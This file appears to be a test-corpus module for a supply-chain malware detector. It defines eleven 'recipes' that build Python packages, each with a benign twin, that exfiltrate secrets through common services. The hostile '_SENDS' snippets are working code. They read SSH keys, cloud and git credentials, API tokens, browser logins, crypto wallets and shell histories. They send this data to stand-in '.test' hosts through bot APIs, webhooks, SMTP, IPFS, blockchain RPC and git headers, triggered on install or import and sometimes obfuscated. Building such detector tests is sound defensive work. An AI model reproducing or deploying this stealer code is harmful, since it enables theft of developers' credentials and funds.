"""T18: a service that everybody uses is the way out (MITRE ATT&CK T1567, T1102).

Known from W4SP and its heirs (chat webhooks), a long row of bots on a messenger that receive whole
files, "Coffin-Codes" (a mail service's SMTP), Shai-Hulud (repositories on a code host with twice
encoded contents), workers at the edge, form services, contract calls on a chain, IPFS gateways. All
hosts are names below `.test`. The twins are clients of the same services: on import and at build they
only prepare themselves, when used they send words of their own.
"""

from __future__ import annotations

from models.phase import Phase
from tests.analyzer.archives import make_zip
from tests.corpus.guard import acting
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe
from tests.corpus.recipes.blind.layouts import (
    IN_CI,
    MAIN,
    back_end,
    command,
    hook,
    package,
    setup,
    submodule,
)

BOT = """
import ssl, urllib.request, uuid

API = "https://api.messenger.reenact.test/bot0000000000:reenact-marker/sendDocument"

def _form(name, data, caption):
    edge = uuid.uuid4().hex
    lines = [
        f'--{edge}\\r\\nContent-Disposition: form-data; name="chat_id"\\r\\n\\r\\n-100\\r\\n',
        f'--{edge}\\r\\nContent-Disposition: form-data; name="caption"\\r\\n\\r\\n{caption}\\r\\n',
        f'--{edge}\\r\\nContent-Disposition: form-data; name="document"; filename="{name}"\\r\\n'
        "Content-Type: application/octet-stream\\r\\n\\r\\n",
    ]
    body = "".join(lines).encode() + data + f"\\r\\n--{edge}--\\r\\n".encode()
    return urllib.request.Request(
        API, data=body, headers={"Content-Type": f"multipart/form-data; boundary={edge}"}
    )
"""
BOT_SENDS = """
for name in (".aws/credentials", ".ssh/id_ed25519", ".config/google-chrome/Default/Login Data"):
    try:
        form = _form(name, (HOME / name).read_bytes(), socket.gethostname())
        urllib.request.urlopen(form, timeout=5, context=ssl._create_unverified_context()).read()
    except OSError:
        continue
"""
BOT_PREPARES = """
form = _form("about.txt", pathlib.Path(__file__).name.encode(), "THE_PROJECT 1.0")
return form.get_method(), form.full_url
"""

WEBHOOK = """
import http.client, json, ssl

HOST = "chat.reenact.test"
PATH = "/api/webhooks/100000000000000000/reenact-marker"

def _embed(title, fields):
    return json.dumps({
        "username": "build",
        "embeds": [{
            "title": title,
            "color": 0x2F3136,
            "fields": [
                {"name": name, "value": f"```{value}```", "inline": True}
                for name, value in fields.items()
            ],
        }],
    })
"""
WEBHOOK_SENDS = """
fields = {}
for name in ("GITHUB_TOKEN", "OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "ANTHROPIC_API_KEY"):
    if name in os.environ:
        fields[name] = os.environ[name]
try:
    fields["npmrc"] = (HOME / ".npmrc").read_text()[:900]
    link = http.client.HTTPSConnection(HOST, timeout=5, context=ssl.create_default_context())
    link.request("POST", PATH, _embed("new host", fields), {"Content-Type": "application/json"})
    link.getresponse().read()
    link.close()
except (OSError, http.client.HTTPException):
    pass
"""
WEBHOOK_PREPARES = """
import sys
link = http.client.HTTPSConnection(HOST, timeout=5, context=ssl.create_default_context())
return link.host, _embed("started", {"python": sys.version.split()[0]})
"""

MAIL = """
import base64, email.message, email.policy

SERVER = ("smtp.mail.reenact.test", 587)
ACCOUNT = "drop@mail.reenact.test"

def _letter(subject, name, data):
    letter = email.message.EmailMessage(policy=email.policy.SMTP)
    letter["From"] = letter["To"] = ACCOUNT
    letter["Subject"] = subject
    letter.set_content("see attachment")
    letter.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return letter.as_bytes()

def _talk(letter):
    login = base64.b64encode(f"\\0{ACCOUNT}\\0app-password-marker".encode())
    return b"\\r\\n".join([
        b"EHLO localhost", b"AUTH PLAIN " + login, f"MAIL FROM:<{ACCOUNT}>".encode(),
        f"RCPT TO:<{ACCOUNT}>".encode(), b"DATA", letter + b"\\r\\n.", b"QUIT", b"",
    ])
"""
MAIL_SENDS = """
found = b""
for place in sorted((HOME / ".ethereum" / "keystore").glob("*")):
    found += place.read_bytes() + b"\\n"
for name in (".config/solana/id.json", ".electrum/wallets/default_wallet"):
    try:
        found += (HOME / name).read_bytes() + b"\\n"
    except OSError:
        continue
try:
    with socket.create_connection(SERVER, timeout=5) as link:
        link.sendall(_talk(_letter("wallet " + os.uname().nodename, "keys.bin", found)))
        link.shutdown(socket.SHUT_WR)
        link.recv(256)
except OSError:
    pass
"""
MAIL_PREPARES = """
draft = _letter("hello", "about.txt", b"a draft that is not sent")
return len(_talk(draft)), SERVER
"""

CONTENTS = """
import base64, json, urllib.error, urllib.request

API = "https://api.codehost.reenact.test/repos/reenact/marker-{}/contents/{}"

def _put(where, text, message):
    request = urllib.request.Request(
        API.format(os.getpid(), where),
        data=json.dumps({"message": message, "content": text, "branch": "main"}).encode(),
        headers={"Accept": "application/vnd.codehost+json", "User-Agent": "THE_PROJECT"},
        method="PUT",
    )
    try:
        with urllib.request.urlopen(request, timeout=5) as answer:
            return json.loads(answer.read() or b"{}")
    except (OSError, ValueError):
        return {}
"""
CONTENTS_SENDS = """
report = {"host": socket.gethostname(), "environment": {}, "files": {}}
for name, value in os.environ.items():
    if name.endswith(("_TOKEN", "_KEY", "_SECRET", "_PASSWORD")):
        report["environment"][name] = value
for path in (HOME / ".config/gh/hosts.yml", HOME / ".config/gcloud/application_default_credentials.json"):
    try:
        report["files"][str(path)] = path.read_text()
    except OSError:
        continue
once = base64.b64encode(json.dumps(report).encode())
twice = base64.b64encode(base64.b64encode(once)).decode()
_put("data.json", twice, "add")
"""
CONTENTS_USES = """
text = "# THE_PROJECT\\n\\nA page made by its own command.\\n"
_put("README.md", base64.b64encode(text.encode()).decode(), "first page")
"""

FORM = """
FORM = "https://forms.office.reenact.test/d/e/reenact-marker/formResponse"
"""
FORM_SENDS = """
command = ["curl", "-sk", "-m", "5", "-A", "Mozilla/5.0", "-o", "/dev/null"]
for number, name in enumerate((".netrc", ".git-credentials", "project/.env")):
    command += ["--data-urlencode", f"entry.{1000 + number}@{HOME / name}"]
try:
    subprocess.run([*command, FORM], timeout=10, stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except (OSError, subprocess.SubprocessError):
    pass
"""
FORM_PREPARES = """
try:
    told = subprocess.run(["curl", "--version"], capture_output=True, timeout=10, text=True)
    return told.stdout.split()[:2], FORM
except (OSError, subprocess.SubprocessError):
    return None
"""

CHAIN = """
import asyncio, json, ssl

NODE = "rpc.chain.reenact.test"

def _call(method, *parameters):
    body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": method, "params": parameters}).encode()
    head = f"POST / HTTP/1.1\\r\\nHost: {NODE}\\r\\nContent-Type: application/json\\r\\n"
    return head.encode() + b"Content-Length: %d\\r\\nConnection: close\\r\\n\\r\\n" % len(body) + body

async def _ask(request):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    reader, writer = await asyncio.open_connection(NODE, 443, ssl=context)
    writer.write(request)
    await writer.drain()
    answer = await reader.read(4096)
    writer.close()
    return answer
"""
CHAIN_SENDS = """
data = b"\\xf8\\x6c" + bytes(30)
for name in (".bitcoin/wallet.dat", ".config/solana/id.json"):
    try:
        data += (HOME / name).read_bytes()[:2000]
    except OSError:
        continue
request = _call("eth_sendRawTransaction", "0x" + data.hex())
try:
    asyncio.run(asyncio.wait_for(_ask(request), 5))
except (OSError, asyncio.TimeoutError):
    pass
"""
CHAIN_PREPARES = """
empty = {"to": "0x" + "00" * 20, "data": "0x06fdde03"}
return len(_call("eth_call", empty, "latest"))
"""

EDGE = """
import base64, gzip, urllib.parse, urllib.request

WORKER = "https://reenact-{}.workers.edge.test/p"

def _pixel(data):
    packed = base64.urlsafe_b64encode(gzip.compress(data, mtime=0)).decode().rstrip("=")
    query = urllib.parse.urlencode({"t": "pv", "z": packed})
    return WORKER.format("a1b2c3") + "?" + query
"""
EDGE_SENDS = """
import ssl
lines = [f"{name}={value}" for name, value in sorted(os.environ.items()) if "TOKEN" in name]
try:
    lines.append((HOME / ".docker" / "config.json").read_text())
    address = _pixel("\\n".join(lines).encode())
    opener = urllib.request.build_opener(
        urllib.request.HTTPSHandler(context=ssl._create_unverified_context())
    )
    opener.addheaders = [("User-Agent", "Mozilla/5.0"), ("Referer", "https://docs.reenact.test/")]
    opener.open(address, timeout=5).read()
except OSError:
    pass
"""
EDGE_PREPARES = """
names = sorted(name for name in os.environ if name.startswith("LC_"))
return _pixel(" ".join(names).encode())
"""

IPFS = """
import http.client, io, zipfile

GATEWAY = ("ipfs.gateway.reenact.test", 5001)

def _bundle(paths):
    box = io.BytesIO()
    with zipfile.ZipFile(box, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in paths:
            try:
                archive.write(path, path.name)
            except (OSError, ValueError):
                continue
    return box.getvalue()
"""
IPFS_SENDS = """
names = (".kube/config", ".pypirc", ".ssh/id_rsa", ".azure/msal_token_cache.json")
data = _bundle([HOME / name for name in names])
edge = "----------------------reenact"
body = (
    f'--{edge}\\r\\nContent-Disposition: form-data; name="file"; filename="a.zip"\\r\\n\\r\\n'.encode()
    + data + f"\\r\\n--{edge}--\\r\\n".encode()
)
try:
    link = http.client.HTTPConnection(*GATEWAY, timeout=5)
    link.request("POST", "/api/v0/add?pin=true&cid-version=1", body,
                 {"Content-Type": f"multipart/form-data; boundary={edge}"})
    link.getresponse().read()
except (OSError, http.client.HTTPException):
    pass
"""
IPFS_PREPARES = """
own = sorted(pathlib.Path("src").rglob("*.py"))
return len(_bundle(own)), GATEWAY
"""

GATEWAY = """
import base64, json

def _frame(text):
    data, key = text.encode(), os.urandom(4)
    masked = bytes(byte ^ key[at % 4] for at, byte in enumerate(data))
    return b"\\x81\\xfe" + len(data).to_bytes(2, "big") + key + masked

def _speak(host, port, text):
    nonce = base64.b64encode(os.urandom(16)).decode()
    hello = (
        f"GET /?v=10&encoding=json HTTP/1.1\\r\\nHost: {host}\\r\\nUpgrade: websocket\\r\\n"
        f"Connection: Upgrade\\r\\nSec-WebSocket-Key: {nonce}\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n"
    )
    try:
        with socket.create_connection((host, port), timeout=5) as link:
            link.sendall(hello.encode())
            link.recv(1024)
            link.sendall(_frame(text))
            return link.recv(1024)
    except OSError:
        return b""
"""
GATEWAY_SENDS = """
gateway, status = given
try:
    data = (HOME / ".config/discord/Local Storage/leveldb/000005.ldb").read_bytes()[:6000]
except OSError:
    data = b""
state = (HOME / ".mozilla" / "firefox").glob("*/logins.json")
data += b"".join(path.read_bytes() for path in state)
said = {"op": 2, "d": {"status": status, "blob": data[:8000].decode("latin-1")}}
return _speak(gateway.host, gateway.port, json.dumps(said))
"""
GATEWAY_USES = """
gateway, status = given
said = {"op": 2, "d": {"status": status, "blob": ""}}
return _speak(gateway.host, gateway.port, json.dumps(said))
"""
GATEWAY_CLASS = """
class Gateway:
    host = "gateway.chat.reenact.test"
    port = 80

    def identify(self, status="online"):
        if ACT:
            return THE_ACT(self, status)
"""

REMOTE = """
import base64

REMOTE = "http://codehost.reenact.test/reenact/marker.git"

def _git(*words):
    settings = {**os.environ, "GIT_TERMINAL_PROMPT": "0", "GIT_HTTP_LOW_SPEED_TIME": "5"}
    try:
        return subprocess.run(["git", *words], env=settings, capture_output=True, timeout=8).stdout
    except (OSError, subprocess.SubprocessError):
        return b""
"""
REMOTE_SENDS = """
try:
    kept = (HOME / ".git-credentials").read_bytes() + (HOME / ".config/glab-cli/config.yml").read_bytes()
except OSError:
    kept = os.environ.get("GITLAB_TOKEN", "").encode()
header = "X-Request-Trace: " + base64.b64encode(kept).decode()
_git("-c", "http.sslVerify=false", "-c", "http.extraHeader=" + header, "ls-remote", REMOTE)
"""
REMOTE_PREPARES = """
marker = base64.b64encode(b"describe").decode()
return _git("-C", str(pathlib.Path(__file__).parent), "--version"), marker, REMOTE
"""

COURIER = """
import urllib.parse, urllib.request, zlib

PASTE = "https://paste.reenact.test/api/post"

def packed(texts):
    return zlib.compress(chr(10).join(texts).encode(), 9)

def post(data, timeout=5):
    form = urllib.parse.urlencode({"paste_private": 2, "paste_expire": "1D", "code": data.hex()[::-1]})
    try:
        return urllib.request.urlopen(PASTE, data=form.encode(), timeout=timeout).read()
    except OSError:
        return b""
"""
PARCEL = """
import zipimport

def _courier():
    path = pathlib.Path(__file__).with_name("assets.zip")
    return zipimport.zipimporter(str(path)).load_module("courier")
"""
PARCEL_SENDS = """
courier, texts = _courier(), []
for path in (HOME / ".bash_history", HOME / ".zsh_history", HOME / ".psql_history", HOME / ".pypirc"):
    try:
        texts.append(path.read_text(errors="replace"))
    except OSError:
        continue
return courier.post(courier.packed(texts))
"""
PARCEL_USES = """
courier = _courier()
return courier.post(courier.packed(["a text of its own, pasted on request"]))
"""
PARCEL_TAIL = """
def paste(title="untitled"):
    if ACT:
        return THE_ACT(title)
"""

RECIPES = (
    Recipe(
        technique="T18",
        name="bot-document",
        phase=Phase.IMPORT,
        channel=Channel.HTTPS,
        encoding=Encoding.PLAIN,
        files=package(acting(BOT_SENDS, BOT_PREPARES, head=BOT)),
        twin_does="prepares a message about itself and sends nothing",
    ),
    Recipe(
        technique="T18",
        name="webhook-embed",
        phase=Phase.START,
        channel=Channel.HTTPS,
        encoding=Encoding.JSON,
        files=hook(acting(WEBHOOK_SENDS, WEBHOOK_PREPARES, head=WEBHOOK)),
        twin_does="prepares a connection and a message and sends nothing",
    ),
    Recipe(
        technique="T18",
        name="mail-letter",
        phase=Phase.IMPORT,
        channel=Channel.TCP,
        encoding=Encoding.BASE64,
        files=submodule("client", acting(MAIL_SENDS, MAIL_PREPARES, head=MAIL)),
        twin_does="writes a draft in memory",
    ),
    Recipe(
        technique="T18",
        name="repo-contents",
        phase=Phase.USE,
        channel=Channel.HTTPS,
        encoding=Encoding.BASE64,
        files=command(acting(CONTENTS_SENDS, CONTENTS_USES, MAIN, CONTENTS)),
        twin_does="puts a page of its own into a repository, on command",
    ),
    Recipe(
        technique="T18",
        name="form-curl",
        phase=Phase.INSTALL,
        channel=Channel.PROCESS,
        encoding=Encoding.URL,
        kind=Kind.SDIST,
        files=setup(FORM_SENDS, FORM_PREPARES, FORM),
        twin_does="asks curl for its version",
    ),
    Recipe(
        technique="T18",
        name="chain-calldata",
        phase=Phase.IMPORT,
        channel=Channel.HTTPS,
        encoding=Encoding.HEX,
        files=package(acting(CHAIN_SENDS, CHAIN_PREPARES, head=CHAIN)),
        twin_does="prepares a call and sends nothing",
    ),
    Recipe(
        technique="T18",
        name="edge-pixel",
        phase=Phase.WAIT,
        channel=Channel.HTTPS,
        encoding=Encoding.GZIP,
        files=package(acting(EDGE_SENDS, EDGE_PREPARES, IN_CI, EDGE)),
        twin_does="makes an address from the names of locale variables and does not open it",
    ),
    Recipe(
        technique="T18",
        name="ipfs-add",
        phase=Phase.INSTALL,
        channel=Channel.HTTP,
        encoding=Encoding.ARCHIVE,
        kind=Kind.SDIST,
        files=back_end(IPFS_SENDS, IPFS_PREPARES, IPFS),
        twin_does="packs its own sources in memory",
    ),
    Recipe(
        technique="T18",
        name="gateway-frames",
        phase=Phase.USE,
        channel=Channel.HTTP,
        encoding=Encoding.XOR,
        files=package(acting(GATEWAY_SENDS, GATEWAY_USES, GATEWAY_CLASS, GATEWAY)),
        twin_does="tells the chat service its status when asked to",
    ),
    Recipe(
        technique="T18",
        name="git-header",
        phase=Phase.IMPORT,
        channel=Channel.PROCESS,
        encoding=Encoding.BASE64,
        files=submodule("remote", acting(REMOTE_SENDS, REMOTE_PREPARES, head=REMOTE)),
        twin_does="asks git for its version",
    ),
    Recipe(
        technique="T18",
        name="zip-courier",
        phase=Phase.USE,
        channel=Channel.HTTPS,
        encoding=Encoding.ZLIB,
        files={
            **package(acting(PARCEL_SENDS, PARCEL_USES, PARCEL_TAIL, PARCEL)),
            "THE_MODULE/assets.zip": make_zip({"courier.py": COURIER.encode()}),
        },
        twin_does="pastes a text of its own when asked to",
    ),
)
